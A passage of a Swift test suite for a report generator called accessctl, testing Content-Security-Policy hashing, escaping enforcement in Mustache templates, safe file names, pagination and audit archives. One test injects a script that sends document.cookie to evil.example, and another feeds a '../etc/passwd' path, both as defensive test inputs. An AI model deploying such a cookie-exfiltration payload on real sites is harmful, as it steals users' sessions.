        try (try String(contentsOf: layout, encoding: .utf8)).replacingOccurrences(of: "</body>", with: "<script>fetch('https://evil.example/?'+document.cookie)</script>\n</body>")
            .write(to: layout, atomically: true, encoding: .utf8)
        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"]).exitCode, 0)
        let pages = try files("site").filter { $0.key.hasSuffix(".html") }
        XCTAssertGreaterThan(pages.count, 20)
        for (path, data) in pages {
            let text = String(decoding: data, as: UTF8.self)
            let head = try XCTUnwrap(text.range(of: "<head>\n<meta http-equiv=\"Content-Security-Policy\" content=\""), path)
            let policy = String(text[head.upperBound...].prefix { $0 != "\"" })
            let allowed = policy.components(separatedBy: "'sha256-").dropFirst().map { String($0.prefix { $0 != "'" }) }
            // Hash each script of the page independently: only the report's own is allowed.
            var scripts: [String] = []
            var rest = text[...]
            while let open = rest.range(of: "<script>"), let close = rest.range(of: "</script>", range: open.upperBound..<rest.endIndex) {
                scripts.append(String(rest[open.upperBound..<close.lowerBound]))
                rest = rest[close.upperBound...]
            }
            XCTAssertEqual(scripts.count, 2, path)
            let hashes = scripts.map { script -> String in
                var hasher = SHA256()
                hasher.update(Array(script.utf8))
                return Data(hasher.finalize()).base64EncodedString()
            }
            XCTAssertEqual(allowed, [hashes[0]], "\(path): the report's own script, and only it")
            XCTAssertTrue(policy.hasPrefix("default-src 'none'; style-src 'self';"), policy)
        }
        // A layout without a head has nowhere for the policy: refused, nothing written.
        try (try String(contentsOf: layout, encoding: .utf8)).replacingOccurrences(of: "<head>", with: "").replacingOccurrences(of: "</head>", with: "")
            .write(to: layout, atomically: true, encoding: .utf8)
        let headless = run(["report", "--root", "access", "--out", "site2", "--now", Self.now, "--templates", "mine"])
        XCTAssertEqual(headless.exitCode, 1)
        XCTAssertTrue(headless.standardError.hasSuffix("layout: error: the layout has no <head>: accessctl puts the pages' Content-Security-Policy there\n"), headless.standardError)
        XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("site2").path))
    }

    func testTemplateThatUnescapesManifestTextFailsAndWritesNothing() throws {
        let templates = work.appendingPathComponent("mine")
        try FileManager.default.copyItem(at: TestSupport.repositoryRoot.appendingPathComponent("templates"), to: templates)
        let path = templates.appendingPathComponent("request.mustache")
        try (try String(contentsOf: path, encoding: .utf8)).replacingOccurrences(of: "<dd class=\"reason\">{{reason}}</dd>", with: "<dd class=\"reason\">{{{reason}}}</dd>")
            .write(to: path, atomically: true, encoding: .utf8)
        let result = run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"])
        XCTAssertEqual(result.exitCode, 1)
        XCTAssertTrue(result.standardError.hasSuffix("""
            mine/request.mustache:14:35: error: {{{reason}}} would print text from the access tree without escaping; write {{reason}}
            <dt>Reason</dt><dd class="reason">{{{reason}}}</dd>
                                              ^

            """), result.standardError)
        XCTAssertFalse(FileManager.default.fileExists(atPath: work.appendingPathComponent("site").path))
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: work.path).filter { $0.contains("accessctl-new") }, [], "no staging folder left behind")

        // A folder need not hold every file: what it lacks comes from the built-in templates.
        try FileManager.default.removeItem(at: path)
        try FileManager.default.removeItem(at: templates.appendingPathComponent("audit.mustache"))
        let partial = run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"])
        XCTAssertEqual(partial.exitCode, 0, partial.standardError)
        XCTAssertTrue(FileManager.default.fileExists(atPath: work.appendingPathComponent("site/audit.html").path))
        try FileManager.default.removeItem(at: work.appendingPathComponent("site"))

        // A template that cannot be read is named.
        try Data([0x7B, 0x7B, 0xFF, 0x7D, 0x7D]).write(to: templates.appendingPathComponent("audit.mustache"))
        XCTAssertTrue(run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"]).standardError
            .hasSuffix("mine/audit.mustache: error: this template is not UTF-8 text\n"))
        try FileManager.default.removeItem(at: templates.appendingPathComponent("audit.mustache"))
        try FileManager.default.createDirectory(at: templates.appendingPathComponent("audit.mustache"), withIntermediateDirectories: false)
        XCTAssertTrue(run(["report", "--root", "access", "--out", "site", "--now", Self.now, "--templates", "mine"]).standardError
            .hasSuffix("mine/audit.mustache: error: cannot read this template: it is a folder\n"))
    }

    func testUsageErrors() {
        let missing = run(["report", "--root", "access"])
        XCTAssertEqual(missing.exitCode, 64)
        XCTAssertTrue(missing.standardError.hasPrefix("error: report needs --out DIR, the folder to write\nusage: accessctl report"), missing.standardError)
        let noTemplates = run(["report", "--root", "access", "--out", "x", "--now", Self.now, "--templates", "nowhere"])
        XCTAssertEqual(noTemplates.exitCode, 1)
        XCTAssertTrue(noTemplates.standardError.hasSuffix("nowhere: error: cannot read the templates folder: it does not exist or is not a folder\n"), noTemplates.standardError)
        let unknown = run(["report", "--root", "access", "--out", "x", "--now", Self.now, "--for", "acme-admin"])
        XCTAssertEqual(unknown.exitCode, 1)
        XCTAssertTrue(unknown.standardError.hasSuffix("error: unknown team 'acme-admin' for --for; did you mean 'acme-admins'?\n"), unknown.standardError)
    }

    func testLargeListsArePaginated() throws {
        var files: [String: String] = [:]
        for i in 0..<205 {
            let id = String(format: "bulk-%03d", i)
            files["access/requests/bulk/\(id).yaml"] = requestYAML(
                id, requester: "raj.patel", at: "2026-11-30T03:\(String(format: "%02d", i % 60)):00Z", resources: "site:acme-staging", reason: "Bulk test \(i)")
        }
        try TestSupport.write(files, under: work)
        XCTAssertEqual(run(["report", "--root", "access", "--out", "site", "--now", Self.now]).exitCode, 0)
        let first = try page("site", "index.html"), third = try page("site", "index-3.html")
        XCTAssertEqual(try first.nodes(forXPath: "//table[@class='requests']/tbody/tr").count, 100)
        XCTAssertEqual(try third.nodes(forXPath: "//table[@class='requests']/tbody/tr").count, 20)
        XCTAssertEqual(try texts(third, "//nav[@class='pages']/p"), ["Page 3 of 3:\nprevious\n1 2 3"])
        XCTAssertNotNil(try self.files("site")["requests-pending-3.html"])
        XCTAssertNil(try self.files("site")["index-4.html"])
    }

    /// The audit log's archive pages hold whole runs of 200 events counted from the oldest,
    /// so a later run that logs more events keeps them as they were.
    func testAuditArchivePagesStayTheSameAsTheLogGrows() throws {
        func requests(_ range: Range<Int>) -> [String: String] {
            var files: [String: String] = [:]
            for i in range {
                let id = String(format: "bulk-%03d", i)
                files["access/requests/bulk/\(id).yaml"] = requestYAML(id, requester: "raj.patel", at: "2026-11-30T03:00:00Z", resources: "site:acme-staging", reason: "Bulk test \(i)")
            }
            return files
        }
        try TestSupport.write(requests(0..<400), under: work)
        XCTAssertEqual(run(["reconcile", "--root", "access", "--now", Self.now, "--report", "site"]).exitCode, 0)
        let events = try String(contentsOf: work.appendingPathComponent("access/audit/log.jsonl"), encoding: .utf8).split(separator: "\n").count
        XCTAssertGreaterThan(events, 400)
        XCTAssertLessThan(events, 600)
        let archive = events / 200
        let front = try page("site", "audit.html")
        XCTAssertEqual(try front.nodes(forXPath: "//table[@class='events']/tbody/tr").count, 200)
        XCTAssertEqual(try texts(front, "//table[@class='events']/tbody/tr[1]/td[1]"), ["\(events)"])
        let oldest = try page("site", "audit-1.html")
        XCTAssertEqual(try texts(oldest, "//table[@class='events']/tbody/tr/td[1]"), (1...200).reversed().map(String.init))
        XCTAssertEqual(try texts(oldest, "//nav[@class='pages']/p"), ["Page 1:\n\n1 \(archive == 2 ? "2 " : "")\nnext"])
        XCTAssertEqual(try texts(page("site", "audit-\(archive).html"), "//table[@class='events']/tbody/tr[200]/td[1]"), ["\((archive - 1) * 200 + 1)"])
        XCTAssertNil(try files("site")["audit-\(archive + 1).html"])
        let before = try inode("site", "audit-1.html")

        // More requests, more events: the full archive pages are kept, the front page is new.
        try TestSupport.write(requests(400..<420), under: work)
        let again = run(["reconcile", "--root", "access", "--now", Self.now, "--report", "site"])
        XCTAssertEqual(again.exitCode, 0, again.standardError)
        XCTAssertEqual(try inode("site", "audit-1.html"), before)
        XCTAssertEqual(try texts(page("site", "audit.html"), "//table[@class='events']/tbody/tr[1]/td[1]"),
                       [String(try String(contentsOf: work.appendingPathComponent("access/audit/log.jsonl"), encoding: .utf8).split(separator: "\n").count)])
    }

    func testFileNamesAreSafe() {
        XCTAssertEqual(ReportSite.fileName("acme-prod.v2_x"), "acme-prod.v2_5Fx")
        XCTAssertEqual(ReportSite.fileName("../etc/passwd"), "_2E._2Fetc_2Fpasswd")
        XCTAssertEqual(ReportSite.fileName(""), "_")
    }
}
